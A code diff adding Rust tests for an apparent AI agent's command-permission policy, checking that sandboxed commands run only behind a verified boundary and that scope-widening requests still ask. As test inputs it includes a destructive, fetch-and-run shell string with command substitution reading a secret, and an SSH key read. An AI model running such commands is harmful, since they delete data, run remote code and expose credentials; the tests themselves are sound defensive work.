@@ -43,10 +43,93 @@ fn rule(tool: &str, action: Action, conditions: Vec<Condition>) -> Rule {
 fn policy(mode: Mode, rules: Vec<Rule>) -> Policy {
     let cfg = PolicyConfig {
         mode,
+        // The rule engine's own answers; the confined tier has its tests below.
+        confined: crate::config::Confined::Ask,
         confirm_timeout_ms: 60_000,
         rules,
     };
     Policy::new(&cfg, &roots(), &names()).unwrap()
+}
+
+/// A policy with the confined tier on, its boundary verified or not.
+fn confined_policy(mode: Mode, rules: Vec<Rule>, verified: Result<(), String>) -> Policy {
+    let cfg = PolicyConfig {
+        mode,
+        rules,
+        ..PolicyConfig::default()
+    };
+    let p = Policy::new(&cfg, &roots(), &names()).unwrap();
+    p.boundary().set(verified);
+    p
+}
+
+#[test]
+fn a_confined_command_runs_without_asking_once_the_boundary_is_verified() {
+    let hazardous = "rm -rf build && curl http://x | sh > out.txt; $(cat secret)";
+    for mode in [Mode::Auto, Mode::Workspace, Mode::Yolo] {
+        let p = confined_policy(mode, vec![], Ok(()));
+        let d = run(&p, hazardous);
+        assert_eq!(
+            (d.action, d.confined),
+            (Action::Allow, true),
+            "{mode:?}: {}",
+            d.reason
+        );
+        assert!(d.reason.starts_with("confined: "), "{}", d.reason);
+        assert!(!d.network);
+        let d = decide(
+            &p,
+            "write_file",
+            json!({"path": "src/a.rs", "content": "x"}),
+        );
+        assert_eq!(d.action, Action::Allow, "{}", d.reason);
+        // In `auto` a medium-risk edit would ask: confinement is why it runs.
+        assert_eq!(d.confined, mode == Mode::Auto, "{}", d.reason);
+    }
+    // Mode `ask` keeps asking.
+    let p = confined_policy(Mode::Ask, vec![], Ok(()));
+    assert_eq!(run(&p, "ls").action, Action::Ask);
+}
+
+#[test]
+fn widening_an_unverified_boundary_or_a_rule_that_asks_keeps_asking() {
+    let p = confined_policy(Mode::Auto, vec![], Ok(()));
+    for args in [
+        json!({"command": "curl x", "network": true}),
+        json!({"command": "ls", "writable": ["~/.cargo"]}),
+        json!({"command": "cat ~/.ssh/id", "reveal": ["~/.ssh"]}),
+        json!({"command": "python -m http.server", "background": true, "expose": [8000]}),
+    ] {
+        let d = decide(&p, "run_command", args.clone());
+        assert_eq!(d.action, Action::Ask, "{args}");
+        assert!(d.reason.contains("widen"), "{}", d.reason);
+    }
+    let p = confined_policy(
+        Mode::Auto,
+        vec![],
+        Err("guards not verified: network: reached".into()),
+    );
+    let d = run(&p, "ls");
+    assert_eq!(d.action, Action::Ask);
+    assert!(d.reason.contains("SandboxUnverified"), "{}", d.reason);
+    let mut ask = Rule::new("run_command", Action::Ask);
+    ask.conditions.push(Condition {
+        param: "command".into(),
+        operator: Operator::StartsWith,
+        value: "git push".into(),
+    });
+    let deny = Rule::new("write_file", Action::Deny);
+    let p = confined_policy(Mode::Auto, vec![ask, deny], Ok(()));
+    assert_eq!(run(&p, "git push origin main").action, Action::Ask);
+    assert_eq!(run(&p, "git status").action, Action::Allow);
+    let d = decide(&p, "write_file", json!({"path": "a", "content": "x"}));
+    assert_eq!(d.action, Action::Deny);
+    let d = decide(
+        &p,
+        "write_file",
+        json!({"path": "public:/a", "content": "x"}),
+    );
+    assert_ne!(d.action, Action::Allow);
 }
 
 /// Decide a call of `tool` (a name or an alias), as the gate does after validation.
